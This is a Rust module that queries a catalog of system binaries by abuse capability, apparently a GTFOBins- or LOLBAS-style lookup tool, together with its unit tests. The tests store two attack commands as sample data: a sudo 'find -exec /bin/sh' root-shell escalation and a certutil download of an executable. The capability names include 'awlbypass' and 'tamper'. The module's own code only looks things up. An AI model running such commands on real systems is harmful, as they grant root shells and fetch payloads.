//! Read-only queries over a built `Catalog`.
//!
//! Not-found outcomes are ordinary `None` / empty results. The only error is
//! an unknown capability name, which is rejected before any binary is
//! scanned so callers can tell "invalid query" from "no results".

use crate::catalog::{Binary, CapabilityEntry, CapabilityName, Catalog, Platform, PlatformFilter};
use thiserror::Error;

#[derive(Clone, Debug, Error, PartialEq, Eq)]
pub enum QueryError {
    #[error(
        "the function '{name}' does not exist for {filter} binaries; check the available functions with --list-functions"
    )]
    UnknownCapability {
        name: String,
        filter: PlatformFilter,
    },
}

/// True iff `binary` records `capability` (exact, normalized form).
pub fn has_capability(binary: &Binary, capability: &str) -> bool {
    capability_details(binary, capability).is_some()
}

/// The stored entry for `capability`, or `None` when the binary lacks it.
pub fn capability_details<'a>(binary: &'a Binary, capability: &str) -> Option<&'a CapabilityEntry> {
    binary.capability(&CapabilityName::parse(capability))
}

#[derive(Clone, Copy, Debug)]
pub struct QueryEngine<'a> {
    catalog: &'a Catalog,
}

impl<'a> QueryEngine<'a> {
    pub fn new(catalog: &'a Catalog) -> Self {
        Self { catalog }
    }

    /// First binary named exactly `name` among the platforms `filter` admits.
    pub fn find_by_name(&self, filter: PlatformFilter, name: &str) -> Option<&'a Binary> {
        self.catalog
            .filtered(filter)
            .find(|binary| binary.name() == name)
    }

    /// Every binary name admitted by `filter`, in catalog order.
    pub fn list_names(&self, filter: PlatformFilter) -> Vec<&'a str> {
        self.catalog.filtered(filter).map(Binary::name).collect()
    }

    /// Names of binaries that record `capability`. The name is validated
    /// first; an unknown name never produces a (misleadingly empty) list.
    pub fn list_by_capability(
        &self,
        filter: PlatformFilter,
        capability: &str,
    ) -> Result<Vec<&'a str>, QueryError> {
        let capability = self.validate_capability_name(filter, capability)?;
        Ok(self
            .catalog
            .filtered(filter)
            .filter(|binary| binary.capability(&capability).is_some())
            .map(Binary::name)
            .collect())
    }

    /// Check `name` against the vocabularies of the platforms in `filter`.
    ///
    /// Unix accepts only its fixed table. Windows accepts its fixed table plus
    /// any category a loaded Windows record actually declared.
    pub fn validate_capability_name(
        &self,
        filter: PlatformFilter,
        name: &str,
    ) -> Result<CapabilityName, QueryError> {
        let capability = CapabilityName::parse(name);
        let valid = filter.platforms().iter().any(|platform| {
            capability.is_documented_for(*platform)
                || (*platform == Platform::Windows
                    && self.catalog.has_observed(Platform::Windows, &capability))
        });
        if valid {
            Ok(capability)
        } else {
            Err(QueryError::UnknownCapability {
                name: name.to_string(),
                filter,
            })
        }
    }

    pub fn is_valid_capability_name(&self, filter: PlatformFilter, name: &str) -> bool {
        self.validate_capability_name(filter, name).is_ok()
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::catalog::{Example, KnownCapability};

    fn scenario() -> Catalog {
        let find = Binary::builder("find", Platform::Unix)
            .entry(
                CapabilityEntry::from_examples(
                    KnownCapability::Sudo.into(),
                    vec![Example::new(
                        "Spawn an interactive root shell.",
                        "sudo find . -exec /bin/sh \\; -quit",
                    )],
                )
                .expect("one example"),
            )
            .build();

        let mut certutil = Binary::builder("certutil.exe", Platform::Windows);
        certutil.record_example(
            KnownCapability::Download.into(),
            Example::new("Download a file", "certutil.exe -urlcache -f http://x a.exe"),
        );

        [find, certutil.build()].into_iter().collect()
    }

    #[test]
    fn scenario_queries() {
        let catalog = scenario();
        let engine = QueryEngine::new(&catalog);

        assert_eq!(
            engine.list_by_capability(PlatformFilter::Both, "download"),
            Ok(vec!["certutil.exe"])
        );
        assert_eq!(
            engine.list_by_capability(PlatformFilter::Unix, "sudo"),
            Ok(vec!["find"])
        );

        let find = engine
            .find_by_name(PlatformFilter::Both, "find")
            .expect("find present");
        assert_eq!(find.platform(), Platform::Unix);
        assert!(capability_details(find, "suid").is_none());
        assert!(has_capability(find, "sudo"));
        assert_eq!(
            capability_details(find, "sudo").map(|entry| entry.examples().len()),
            Some(1)
        );
    }

    #[test]
    fn name_lookup_is_exact_and_filtered() {
        let catalog = scenario();
        let engine = QueryEngine::new(&catalog);
        assert!(engine.find_by_name(PlatformFilter::Both, "Find").is_none());
        assert!(engine.find_by_name(PlatformFilter::Windows, "find").is_none());
        assert!(engine.find_by_name(PlatformFilter::Both, "nmap").is_none());
        assert_eq!(
            engine.list_names(PlatformFilter::Both),
            vec!["find", "certutil.exe"]
        );
        assert_eq!(engine.list_names(PlatformFilter::Windows), vec!["certutil.exe"]);
    }

    #[test]
    fn unknown_capability_fails_before_scanning() {
        let catalog = scenario();
        let engine = QueryEngine::new(&catalog);

        assert_eq!(
            engine.list_by_capability(PlatformFilter::Both, "teleport"),
            Err(QueryError::UnknownCapability {
                name: "teleport".to_string(),
                filter: PlatformFilter::Both,
            })
        );
        // Windows-only names are invalid for a Unix-only query.
        assert!(engine
            .list_by_capability(PlatformFilter::Unix, "awlbypass")
            .is_err());
        // Valid but unmatched is an empty result, not an error.
        assert_eq!(
            engine.list_by_capability(PlatformFilter::Windows, "awlbypass"),
            Ok(Vec::new())
        );
    }

    #[test]
    fn observed_windows_categories_are_valid() {
        let mut catalog = scenario();
        let mut mshta = Binary::builder("mshta.exe", Platform::Windows);
        mshta.record_example(CapabilityName::parse("tamper"), Example::default());
        catalog.add(mshta.build());
        let engine = QueryEngine::new(&catalog);

        assert!(engine.is_valid_capability_name(PlatformFilter::Windows, "tamper"));
        assert!(!engine.is_valid_capability_name(PlatformFilter::Unix, "tamper"));
        assert_eq!(
            engine.list_by_capability(PlatformFilter::Both, "tamper"),
            Ok(vec!["mshta.exe"])
        );
    }

    #[test]
    fn absent_capability_is_absent() {
        let catalog = scenario();
        let engine = QueryEngine::new(&catalog);
        let certutil = engine
            .find_by_name(PlatformFilter::Windows, "certutil.exe")
            .expect("present");
        for cap in KnownCapability::ALL {
            if cap != KnownCapability::Download {
                assert!(!has_capability(certutil, cap.as_str()));
            }
        }
    }
}
